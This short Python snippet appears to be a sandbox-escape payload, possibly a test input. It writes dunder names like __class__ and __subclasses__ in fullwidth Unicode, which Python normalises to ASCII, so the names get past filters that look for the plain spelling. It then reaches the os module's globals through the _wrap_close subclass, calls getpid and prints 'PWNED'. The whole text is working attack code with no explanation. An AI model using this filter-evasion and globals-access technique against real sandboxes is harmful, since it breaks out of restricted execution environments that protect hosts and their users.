# unicode: ().__ｃｌａｓｓ__ normalises to __class__
M = "PWN" + "ED"

for c in ().__ｃｌａｓｓ__.__ｂａｓｅ__.__ｓｕｂｃｌａｓｓｅｓ__():
    if c.__name__ == "_wrap_close":
        print(M, c.__init__.__globals__["getpid"]())
